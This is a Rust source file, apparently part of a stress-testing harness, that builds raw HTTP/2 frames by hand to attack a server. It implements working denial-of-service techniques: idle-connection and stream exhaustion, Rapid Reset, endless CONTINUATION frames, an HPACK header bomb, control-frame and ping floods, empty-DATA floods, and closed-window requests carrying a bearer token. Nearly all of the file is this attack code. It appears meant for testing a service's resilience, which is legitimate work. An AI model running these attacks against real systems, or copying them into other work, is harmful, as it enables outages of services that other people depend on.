// SPDX-License-Identifier: Apache-2.0
//! HTTP/2 by hand: what no library would send.

mod frames;

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::field::Field;
use frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM,
    WINDOW_UPDATE, block, frame, literal, settings,
};

/// More connections than the server has descriptors.
const ALL: usize = 1_100;
/// Connections of the attacks that are loud.
const LOUD: usize = 16;
/// `SETTINGS_INITIAL_WINDOW_SIZE`
const WINDOW: u16 = 4;

/// The first bit of a header that is an entry of the table.
const INDEXED: u8 = 0b1000_0000;
/// What a stranger writes again and again on one connection.
type Speak = fn(&mut Vec<u8>, round: u32);

/// A connection that has said what every client says first.
async fn greet(field: &Field, number: u32, window: u32) -> anyhow::Result<TcpStream> {
    let mut stream = field.connect_from(number).await?;
    stream.set_nodelay(true)?;
    let mut first = PREFACE.to_vec();
    settings(&mut first, &[(WINDOW, window)]);
    stream.write_all(&first).await?;
    Ok(stream)
}

/// Reads and forgets what the server says, until it hangs up.
async fn listen(field: &Field, mut reader: impl tokio::io::AsyncRead + Unpin) {
    let mut sink = vec![0; 16 << 10];
    loop {
        match reader.read(&mut sink).await {
            Ok(0) => return field.note("closed by the server"),
            Ok(_) => {}
            Err(_) => return field.note("reset by the server"),
        }
    }
}

/// Writes what `speak` says, until the server hangs up or the attack ends.
async fn talk(field: &Arc<Field>, count: usize, pause: Duration, speak: Speak) {
    field
        .swarm(count, |field, number| async move {
            while !field.is_over() {
                let stream = greet(&field, number as u32 % 64, 65_535).await?;
                field.note("opened");
                let (reader, mut writer) = stream.into_split();
                let write = async {
                    let mut out = Vec::new();
                    for round in 0.. {
                        out.clear();
                        speak(&mut out, round);
                        if writer.write_all(&out).await.is_err() {
                            break;
                        }
                        tokio::time::sleep(pause).await;
                    }
                };
                tokio::select! {
                    () = write => field.note("cut"),
                    () = listen(&field, reader) => {}
                }
            }
            Ok(())
        })
        .await;
}

async fn idle_from(field: &Arc<Field>, one_address: bool) {
    let open = move |field: Arc<Field>, number: usize| async move {
        let source = if one_address { 7 } else { number as u32 };
        let stream = greet(&field, source, 65_535).await?;
        field.note("opened");
        Ok(stream)
    };
    let held = field.prepare(ALL, open).await;
    let mut tasks = tokio::task::JoinSet::new();
    for stream in held {
        let field = Arc::clone(field);
        tasks.spawn(async move { listen(&field, stream).await });
    }
    field.hold().await;
}

/// Idle connections from one address.
pub(crate) async fn idle(field: Arc<Field>) -> anyhow::Result<()> {
    idle_from(&field, true).await;
    Ok(())
}

/// Idle connections, each from an address of its own.
pub(crate) async fn idle_many(field: Arc<Field>) -> anyhow::Result<()> {
    idle_from(&field, false).await;
    Ok(())
}

/// Requests whose bodies never come, on as many streams as there may be.
pub(crate) async fn open_streams(field: Arc<Field>) -> anyhow::Result<()> {
    let speak: Speak = |out, round| {
        if round < 4 {
            for stream in 0..100 {
                let id = (round * 100 + stream) * 2 + 1;
                frame(out, HEADERS, END_HEADERS, id, &block("POST", "/graphql"));
            }
        }
    };
    talk(&field, 64, Duration::from_millis(100), speak).await;
    Ok(())
}

/// Requests that are taken back at once.
pub(crate) async fn rapid_reset(field: Arc<Field>) -> anyhow::Result<()> {
    let speak: Speak = |out, round| {
        for stream in 0..200 {
            let id = (round * 200 + stream) * 2 + 1;
            let flags = END_HEADERS | END_STREAM;
            frame(out, HEADERS, flags, id, &block("GET", "/readyz"));
            frame(out, RST_STREAM, 0, id, &8u32.to_be_bytes());
        }
    };
    talk(&field, LOUD, Duration::ZERO, speak).await;
    Ok(())
}

/// A header that never ends.
pub(crate) async fn continuation(field: Arc<Field>) -> anyhow::Result<()> {
    let speak: Speak = |out, round| {
        if round == 0 {
            frame(out, HEADERS, 0, 1, &block("GET", "/readyz"));
        }
        let mut more = Vec::new();
        literal(&mut more, "x-more", &"y".repeat(100));
        for _ in 0..64 {
            frame(out, CONTINUATION, 0, 1, &more);
        }
    };
    talk(&field, LOUD, Duration::ZERO, speak).await;
    Ok(())
}

/// Header lists that are small on the wire and large in memory: one entry, named again and again.
pub(crate) async fn header_bomb(field: Arc<Field>) -> anyhow::Result<()> {
    let speak: Speak = |out, round| {
        let mut head = block("GET", "/readyz");
        // Literal with incremental indexing: the newest entry of the table is number 62.
        head.push(0x40);
        frames::text(&mut head, "x-bomb");
        frames::text(&mut head, &"z".repeat(3_000));
        head.extend(std::iter::repeat_n(INDEXED + 62, 12_000));
        let flags = END_HEADERS | END_STREAM;
        frame(out, HEADERS, flags, round * 2 + 1, &head);
    };
    talk(&field, LOUD, Duration::from_millis(5), speak).await;
    Ok(())
}

/// Frames that want an answer each, faster than the answers are read.
pub(crate) async fn control_frames(field: Arc<Field>) -> anyhow::Result<()> {
    let speak: Speak = |out, _| {
        for number in 0..200u64 {
            frame(out, PING, 0, 0, &number.to_be_bytes());
            settings(out, &[(WINDOW, 65_535)]);
            frame(out, WINDOW_UPDATE, 0, 0, &0u32.to_be_bytes());
            frame(out, PRIORITY, 0, 1, &[0, 0, 0, 3, 16]);
        }
    };
    talk(&field, LOUD, Duration::ZERO, speak).await;
    Ok(())
}

/// The same, by clients that read nothing.
pub(crate) async fn unread_pings(field: Arc<Field>) -> anyhow::Result<()> {
    field
        .swarm(64, |field, number| async move {
            let mut stream = greet(&field, number as u32, 65_535).await?;
            field.note("opened");
            let mut out = Vec::new();
            for number in 0..400u64 {
                frame(&mut out, PING, 0, 0, &number.to_be_bytes());
                settings(&mut out, &[(WINDOW, 65_535)]);
            }
            while stream.write_all(&out).await.is_ok() {}
            field.note("cut");
            Ok(())
        })
        .await;
    Ok(())
}

/// Bodies of empty frames and of frames of one byte.
pub(crate) async fn crumbs(field: Arc<Field>) -> anyhow::Result<()> {
    let speak: Speak = |out, round| {
        if round == 0 {
            frame(out, HEADERS, END_HEADERS, 1, &block("POST", "/graphql"));
        }
        for _ in 0..500 {
            frame(out, DATA, 0, 1, b"");
            frame(out, DATA, 0, 1, b" ");
        }
    };
    talk(&field, LOUD, Duration::ZERO, speak).await;
    Ok(())
}

/// Requests whose answers may not be sent: the window is closed.
pub(crate) async fn closed_windows(field: Arc<Field>) -> anyhow::Result<()> {
    field
        .swarm(LOUD, |field, number| async move {
            let mut stream = greet(&field, number as u32, 0).await?;
            let token = format!("Bearer {}", field.arsenal.viewer.narrow);
            let body = super::queries::body("FIND * AS n RETURN n.*");
            let mut out = Vec::new();
            for request in 0..50 {
                let mut head = block("POST", "/jupiterone/graphql");
                literal(&mut head, "authorization", &token);
                literal(&mut head, "content-type", "application/json");
                frame(&mut out, HEADERS, END_HEADERS, request * 2 + 1, &head);
                frame(&mut out, DATA, END_STREAM, request * 2 + 1, body.as_bytes());
            }
            stream.write_all(&out).await?;
            field.note("asked");
            listen(&field, stream).await;
            Ok(())
        })
        .await;
    Ok(())
}
